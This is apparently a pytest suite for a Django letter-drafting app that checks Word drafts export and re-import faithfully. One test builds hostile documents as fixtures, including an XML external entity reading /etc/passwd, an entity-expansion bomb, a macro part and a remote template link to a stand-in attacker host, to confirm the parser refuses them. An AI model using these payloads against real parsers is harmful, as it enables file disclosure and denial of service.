"""A draft goes out as a Word document and comes back; what is hostile, or would be lost, does not come in."""

import datetime
import io
import re
import shutil
import subprocess
import zipfile
from collections import Counter
from collections.abc import Callable
from dataclasses import replace
from functools import lru_cache
from pathlib import Path
from typing import Any

import docx as word
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from docx.oxml import parse_xml
from pypdf import PdfReader

from sopan.cases.models import Case, Task
from sopan.files.letterhead import Letterhead
from sopan.letters.layout.docx import frame_of, to_docx
from sopan.letters.layout.docx_opening import DocxRefused
from sopan.letters.layout.docx_reading import read_docx
from sopan.letters.layout.kinds import KINDS
from sopan.letters.layout.rendering import Block, LetterPage, Party, Signer, render
from sopan.letters.models import Letter
from sopan.letters.papers import blocks_of
from tests.factories import make_official, make_position
from tests.letters.examples import EXAMPLES, MARKS
from tests.letters.reading import words_of
from tests.letters.test_drafting import saved, signed_in
from tests.world import World

BLOCKS: tuple[Block, ...] = (
    {"text": "Yang bertanda tangan di bawah ini, {jabatan_penandatangan}, menerangkan bahwa:"},
    {"facts": [["Nama", "H. Ma'ruf, S.Sos."], ["Alamat", "Jalan A\nDesa B"], ["Telepon", "-"]]},
    {"heading": "Ketentuan"},
    {"items": ["membawa berkas asli;", "datang sendiri."], "numbering": "1."},
    {"text": "Sesudah itu:"},
    {"items": ["yang pertama", "yang kedua"], "numbering": "a.", "label": "Untuk"},
    {"table": {"head": ["No.", "Nama"], "rows": [["1", "Siti"], ["2", "Budi"]]}},
    {"text": "Demikian surat ini dibuat."},
    {"annex": "Daftar Peserta"},
    {"text": "Baris satu\nbaris dua"},
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
NS = f'xmlns:w="{W}"'


def page(kind: str = "surat keterangan") -> LetterPage:
    return LetterPage(
        letterhead=Letterhead("Pemerintah Kabupaten Contoh", "Dinas Contoh", ("Jalan Contoh 1",)),
        kind=kind,
        title="Surat Keterangan Terdaftar",
        body=BLOCKS,
        signer=Signer("a.n. Kepala Dinas\nSekretaris", "Siti Aminah, S.Sos.", "Pembina", "1970"),
        city="Pelaihari",
        date="............",
        number="............",
        code="",
        address="",
        made_at=datetime.datetime(2026, 11, 26, tzinfo=datetime.UTC),
        subject="Contoh",
        addressee=("Pemohon",),
        copies=("Bupati", "Sekretaris Daerah"),
    )


@lru_cache(maxsize=1)
def example() -> bytes:
    return to_docx(page(), "kunci/keterangan/3")


def opened(content: bytes) -> Any:
    return word.Document(io.BytesIO(content))


def closed(paper: Any) -> bytes:
    out = io.BytesIO()
    paper.save(out)
    return out.getvalue()


def with_part(content: bytes, name: str, text: bytes | Callable[[bytes], bytes]) -> bytes:
    """The document with one part replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for one in old.namelist():
            if one != name:
                new.writestr(one, old.read(one))
        was = old.read(name) if name in old.namelist() else b""
        new.writestr(name, text(was) if callable(text) else text)
    return out.getvalue()


# There and back


MANY = tuple(f"Kepala Desa {name}" for name in ("Sukamaju", "Bajuin", "Telaga", "Panggung"))
PARTIES = (
    Party("Pihak Kedua", "Budi", "Kepala Desa"),
    Party("Pihak Ketiga", "Wati"),
    Party("Mengetahui", "Siti", "Kepala Dinas", knows=True),
)
LOOKS = {
    **{kind: page(kind) for kind in KINDS},
    **{name: replace(one, seal="draft") for name, (_title, one) in EXAMPLES.items()},
    "daftar terlampir": replace(page("surat undangan"), addressee=MANY, nature="Rahasia"),
    "nota dinas ke banyak": replace(page("nota dinas"), addressee=MANY),
    "edaran ke dua": replace(page("surat edaran"), addressee=("Camat\nse-Kabupaten", "Kepala Desa")),
    "para pihak": replace(page("berita acara"), parties=PARTIES, role="Pihak Pertama", initials=MARKS),
    "berlaku sampai": replace(page(), valid_until="1 Desember 2027", body=BLOCKS[:-2], initials=MARKS),
    "belum terisi": replace(page(), title="Surat {jenis}", missing=(("jenis", "Jenis surat"),)),
    "u.b.": replace(page(), signer=Signer("a.n. Bupati\nSekretaris Daerah\nu.b.\nKepala Dinas", "Siti")),
}
"""A draft of each kind, and of each way a letter can look."""


@pytest.mark.parametrize("look", LOOKS)
def test_word_draft_says_what_the_pdf_says_and_comes_back_the_same(look: str) -> None:
    draft = LOOKS[look]
    content = to_docx(draft, "kunci/keterangan/3")
    assert spoken(content) == printed(render(draft))
    read = read_docx(content, frame_of(draft))
    sent = [
        {**block, "numbering": block.get("numbering", "1.")} if "items" in block else block
        for block in draft.body
    ]
    assert read.blocks == sent
    assert read.reference == "kunci/keterangan/3"
    assert read.warnings == []


def test_what_is_hard_to_tell_apart_comes_back_the_same() -> None:
    blocks: list[Block] = [
        {"text": "Satu.\n\nDua.\nTiga.", "label": "Dasar:"},
        {"items": ["2. bukan nomor"], "numbering": "1.", "label": "Kepada"},
        {"items": ["sendiri"], "numbering": "1.", "label": "Untuk"},
        {"text": "jarak\tantara"},
        {"heading": "Bagian"},
        {"items": ["huruf"], "numbering": "a.", "label": "Tembusan"},
        {"items": [f"butir {number}" for number in range(60)], "numbering": "a."},
        {"items": ["di. sana", "1. lagi"], "numbering": "1."},
        {"facts": [["Nama", "Siti"]]},
        {"facts": [["Nama", "Budi"]]},
    ]
    draft = replace(page("surat tugas"), body=tuple(blocks))
    read = read_docx(to_docx(draft, ""), frame_of(draft))
    assert read.blocks == blocks
    assert read.warnings == []


def spoken(content: bytes) -> Counter[str]:
    """The words of a Word document, each as often as it stands there; the foot once."""
    paper = opened(content)
    section = paper.sections[0]
    parts = (paper.element.body, section.first_page_header._element, section.first_page_footer._element)
    words, breaks = f"{{{W}}}t", {f"{{{W}}}{name}" for name in ("p", "br", "tab")}
    found = (one for part in parts for one in part.iter() if one.tag == words or one.tag in breaks)
    return _counted("".join(one.text or "" if one.tag == words else " " for one in found))


def printed(content: bytes) -> Counter[str]:
    """The words of a draft as PDF, without what Word's lacks: the watermark, and the box for the signature."""
    reader = PdfReader(io.BytesIO(content))
    found = Counter[str]()
    for number, sheet in enumerate(reader.pages):
        whole = sheet.extract_text().replace("\u200b", "").replace("belum ditandatangani", " ")
        text, foot, rest = whole.partition("Konsep, belum berlaku")
        found += _counted(f"{text} {foot + rest if number == 0 else ''}")
        if number:
            found -= _counted(str(number + 1))
    return found - Counter({"konsep": len(reader.pages)})


def _counted(text: str) -> Counter[str]:
    return Counter(re.findall(r"[^\W_]+", text.lower()))


def test_edited_document_is_read_as_it_was_edited() -> None:
    paper = opened(example())
    paragraphs = {one.text: one for one in paper.paragraphs}
    paragraphs["Sesudah itu:"].insert_paragraph_before("Alinea dari Word.", "Normal")
    run = paragraphs["Demikian surat ini dibuat."].add_run(" Tebal.")
    run.bold = True
    paper.add_paragraph("Butir sendiri", "List Number")
    read = read_docx(closed(paper))
    assert {"text": "Alinea dari Word."} in read.blocks
    assert {"text": "Demikian surat ini dibuat. Tebal."} in read.blocks
    assert read.blocks[-1] == {"items": ["Butir sendiri"], "numbering": "1."}
    assert [warning for warning in read.warnings if "tebal" in warning]


def test_document_of_another_program_is_read_whole_with_a_warning() -> None:
    paper = word.Document()
    paper.add_paragraph("Hanya isi.")
    read = read_docx(closed(paper))
    assert read.blocks == [{"text": "Hanya isi."}]
    assert any("seluruh dokumen" in warning for warning in read.warnings)


@pytest.mark.once
def test_document_opens_and_prints_the_same_in_libreoffice(tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip(
            "LibreOffice (soffice) is not installed, so that nobody but python-docx judges the Word draft"
        )
    (tmp_path / "konsep.docx").write_bytes(example())
    home = f"-env:UserInstallation=file://{tmp_path}/home"
    for form, folder in (("pdf", tmp_path), ("docx:MS Word 2007 XML", tmp_path / "again")):
        subprocess.run(  # a fixed program and our own file
            [office, home, "--headless", "--convert-to", form, "--outdir", folder, tmp_path / "konsep.docx"],
            check=True, capture_output=True, timeout=120,
        )  # fmt: skip
    printed = words_of((tmp_path / "konsep.pdf").read_bytes())
    for expected in (
        "DINAS CONTOH", "SURAT KETERANGAN TERDAFTAR", "menerangkan bahwa:", "H. Ma'ruf, S.Sos.", "membawa berkas asli;",
        "Siti Aminah, S.Sos.", "Sekretaris Daerah", "DAFTAR PESERTA", "baris dua",
    ):  # fmt: skip
        assert expected in printed
    again = read_docx((tmp_path / "again" / "konsep.docx").read_bytes())
    assert again.blocks == list(BLOCKS)
    assert again.reference == "kunci/keterangan/3"


# What does not come in

TRACKED = f'<w:p {NS}><w:ins w:id="1" w:author="a"><w:r><w:t>baru</w:t></w:r></w:ins></w:p>'
PICTURE = f"<w:p {NS}><w:r><w:drawing/></w:r></w:p>"
BOX = f"<w:p {NS}><w:r><w:pict><w:txbxContent><w:p><w:r><w:t>x</w:t></w:r></w:p></w:txbxContent></w:pict></w:r></w:p>"
NOTE = f'<w:p {NS}><w:r><w:footnoteReference w:id="2"/></w:r></w:p>'
MERGED = f'<w:tbl {NS}><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc></w:tr></w:tbl>'


def run(words: str, form: str) -> str:
    return f"<w:p {NS}><w:r><w:rPr>{form}</w:rPr><w:t>{words}</w:t></w:r></w:p>"


IN_FRAME = f'<w:p {NS}><w:pPr><w:pStyle w:val="SopanBingkai"/></w:pPr><w:r><w:drawing/></w:r></w:p>'
ALONE = f"<w:tbl {NS}><w:tr><w:tc><w:p><w:r><w:drawing/></w:r></w:p></w:tc></w:tr></w:tbl>"


@pytest.mark.parametrize(
    ("xml", "code", "named"),
    [
        (IN_FRAME, "lost", "gambar"),
        (ALONE, "lost", "gambar"),
        (run("tidak", "<w:strike/>"), "lost", "dicoret"),
        (run("rahasia", "<w:vanish/>"), "lost", "tersembunyi"),
        (TRACKED, "tracked", "perubahan terlacak"),
        (PICTURE, "lost", "gambar"),
        (BOX, "lost", "kotak teks"),
        (NOTE, "lost", "catatan kaki"),
        (MERGED, "lost", "digabung"),
    ],
)
def test_what_cannot_be_carried_is_named(xml: str, code: str, named: str) -> None:
    paper = opened(example())
    paper.element.body.insert(0, parse_xml(xml))
    with pytest.raises(DocxRefused) as refused:
        read_docx(closed(paper))
    assert refused.value.code == code
    assert named in refused.value.message


def inserted(paper: Any, *xml: str) -> None:
    """As if somebody had written it before the closing sentence."""
    last = next(one for one in paper.paragraphs if one.text == "Demikian surat ini dibuat.")
    for one in xml:
        last._p.addprevious(parse_xml(one))


def test_what_is_written_around_the_text_is_taken_or_named_and_never_gone() -> None:
    """Enter behind a line of the head goes on in its style: what is typed there belongs to the letter."""
    paper = opened(example())
    lines = [one for one in paper.paragraphs if one.style.name == "Sopan Bingkai"]
    lines[4].insert_paragraph_before("Diketik di bawah kepala.", lines[0].style)
    lines[1].add_run(" A")
    paper.tables[-1].cell(0, 1).paragraphs[2].insert_paragraph_before("u.b.", lines[0].style)
    paper.sections[0].first_page_header.paragraphs[-1].add_run("Telepon baru")
    paper.sections[0].footer.paragraphs[0].add_run("Kaki halaman")
    read = read_docx(closed(paper), frame_of(page()))
    assert [block for block in read.blocks if block not in BLOCKS] == [{"text": "Diketik di bawah kepala."}]
    named, foot = " ".join(read.warnings), "Konsep, belum berlaku sebagai naskah dinas."
    for words in ("NOMOR ............ A", "u.b.", "Telepon baru", f"{foot}Kaki halaman"):
        assert f"tidak ikut: “{words}”" in named
    assert read_docx(example(), frame_of(page())).warnings == []


def item(words: str, list_id: int, depth: int = 0) -> str:
    number = f'<w:numPr><w:ilvl w:val="{depth}"/><w:numId w:val="{list_id}"/></w:numPr>'
    return f"<w:p {NS}><w:pPr>{number}</w:pPr><w:r><w:t>{words}</w:t></w:r></w:p>"


LISTS = f"""<w:numbering {NS}>
<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/></w:lvl><w:lvl w:ilvl="1"><w:numFmt w:val="lowerLetter"/></w:lvl></w:abstractNum>
<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:numFmt w:val="upperRoman"/></w:lvl></w:abstractNum>
<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>
<w:num w:numId="2"><w:abstractNumId w:val="0"/><w:lvlOverride w:ilvl="0"><w:startOverride w:val="1"/></w:lvlOverride></w:num>
<w:num w:numId="3"><w:abstractNumId w:val="1"/></w:num></w:numbering>""".encode()


def test_lists_begin_anew_where_they_did_and_what_changes_their_numbers_is_named() -> None:
    def listed(*xml: str) -> tuple[list[Block], list[str]]:
        paper = opened(example())
        inserted(paper, *xml)
        read = read_docx(with_part(closed(paper), "word/numbering.xml", LISTS))
        return [block for block in read.blocks if block not in BLOCKS], read.warnings

    two = [{"items": ["a", "b"], "numbering": "1."}, {"items": ["c"], "numbering": "1."}]
    assert listed(item("a", 1), item("b", 1), item("c", 2)) == (two, [])
    blocks, warnings = listed(item("a", 1), run("Selingan.", ""), item("b", 1))
    assert blocks[0]["items"] == ["a"]
    assert blocks[2]["items"] == ["b"]
    assert "mulai lagi dari awal pada butir “b”" in warnings[0]
    blocks, warnings = listed(item("a", 1), item("b", 1, depth=1), item("c", 1))
    assert [word for block in blocks for word in block["items"]] == ["a", "b", "c"]
    assert any("bertingkat" in warning for warning in warnings)
    assert any("Romawi" in warning for warning in listed(item("a", 3))[1])


def test_formatting_that_means_something_stays_in_the_words() -> None:
    paper = opened(example())
    brk = f'<w:p {NS}><w:r><w:t>satu</w:t><w:br w:type="page"/><w:t>dua</w:t></w:r></w:p>'
    inserted(
        paper,
        run("kepala dinas", "<w:caps/>"),
        run("2", '<w:vertAlign w:val="superscript"/>'),
        brk,
    )
    read = read_docx(closed(paper))
    assert [b["text"] for b in read.blocks if b not in BLOCKS] == ["KEPALA DINAS", "²", "satu\ndua"]


def relation(type_: str) -> bytes:
    return (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        + type_.encode()
        + b'" Target="http://jahat.example/t.dotm" TargetMode="External"/></Relationships>'
    )


def test_hostile_documents_are_refused() -> None:
    good = example()
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><document/>'
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><document>&b;</document>'
    )
    hostile = {
        "old_word": b"\xd0\xcf\x11\xe0" + b"0" * 100,
        "not_word": b"%PDF-1.7",
        "too_large": b"PK" + b"0" * 6_000_000,
        "macro": with_part(good, "word/vbaProject.bin", b"x"),
        "embedded": with_part(good, "word/embeddings/object.bin", b"x"),
        "linked": with_part(good, "word/_rels/settings.xml.rels", relation("attachedTemplate")),
        "entities": with_part(good, "word/document.xml", entity),
        "open_document": with_part(with_part(good, "mimetype", b"odt"), "content.xml", b"<x/>"),
        "too_complex": with_part(good, "word/document.xml", b"<w>" + b" " * 30_000_000 + b"</w>"),
    }
    for code, content in hostile.items():
        with pytest.raises(DocxRefused) as refused:
            read_docx(content)
        assert refused.value.code == code
    with pytest.raises(DocxRefused):
        read_docx(with_part(good, "word/document.xml", laughs))
    for cut in (b"PK\x03\x04", good[: len(good) // 2], good.replace(b"PK\x01\x02", b"PK\x01\x09")):
        with pytest.raises(DocxRefused):
            read_docx(cut)


def test_link_becomes_words_and_is_never_followed() -> None:
    linked = with_part(example(), "word/_rels/header9.xml.rels", relation("hyperlink"))
    assert read_docx(linked).blocks == list(BLOCKS)


# On the task


def send(client: Client, task: Task, content: bytes, **more: str) -> str:
    file = SimpleUploadedFile("hasil suntingan.docx", content)
    answer = client.post(f"/meja/naskah/{task.key}/word/", {"word": file, **more}, follow=True)
    return answer.content.decode()


def fetched(client: Client, task: Task) -> bytes:
    answer = client.get(f"/meja/naskah/{task.key}/konsep.docx")
    assert answer.status_code == 200
    return answer.content


def test_draft_edited_in_word_becomes_a_version(world: World, case: Case) -> None:
    task = world.walk_to(case, "draft")
    client = signed_in(world.actor_of(task))
    being_written = {"paragraph_0": "Sedang ditulis di layar."}
    paper = opened(client.post(f"/meja/naskah/{task.key}/konsep.docx", being_written).content)
    first = next(one for one in paper.paragraphs if one.text == "Sedang ditulis di layar.")
    first.add_run(" Ditambah di Word.")
    page = send(client, task, closed(paper))
    assert "menjadi konsep ke-1" in page
    letter = Letter.objects.get(case=case)
    assert blocks_of(letter)[0]["text"] == "Sedang ditulis di layar. Ditambah di Word."
    assert any("facts" in block for block in blocks_of(letter))
    assert letter.versions.get().way == "word"
    assert world.open_task(case).pk == task.pk
    world.walk_to(case, "sign")
    assert "Ditambah di Word." in words_of(client.get(f"/meja/naskah/{task.key}/pratinjau.pdf").content)


def test_document_made_of_an_older_draft_is_taken_only_when_one_says_so(world: World, case: Case) -> None:
    task = world.walk_to(case, "draft")
    client = signed_in(world.actor_of(task))
    old = fetched(client, task)
    saved(client, task, paragraph_0="Sudah maju.")
    assert "Bandingkan dahulu" in send(client, task, old)
    assert Letter.objects.get(case=case).version == 1
    assert "menjadi konsep ke-2" in send(client, task, old, anyway="on")


def test_document_of_another_letter_is_refused(world: World, case: Case) -> None:
    task = world.walk_to(case, "draft")
    client = signed_in(world.actor_of(task))
    assert "naskah lain" in send(client, task, to_docx(page(), "00000000-0000-0000-0000-000000000000/lain/0"))
    assert "bukan dokumen Word" in send(client, task, b"PK\x03\x04rusak")
    assert not Letter.objects.exists()


def test_word_is_closed_to_who_may_not_draft(world: World, case: Case) -> None:
    task = world.walk_to(case, "draft")
    content = fetched(signed_in(world.actor_of(task)), task)
    reader = make_official(case.agency, make_position(case.agency, "inspektur", unit=case.unit, sight="read"))
    assert signed_in(reader).get(f"/meja/naskah/{task.key}/konsep.docx").status_code == 200
    for user, look, do in ((reader, 200, 409), (world.citizen, 403, 403), (world.stranger, 403, 403)):
        client = signed_in(user)
        assert client.get(f"/meja/naskah/{task.key}/konsep.docx").status_code == look
        file = SimpleUploadedFile("a.docx", content)
        assert client.post(f"/meja/naskah/{task.key}/word/", {"word": file}).status_code == do
    assert not Letter.objects.exists()
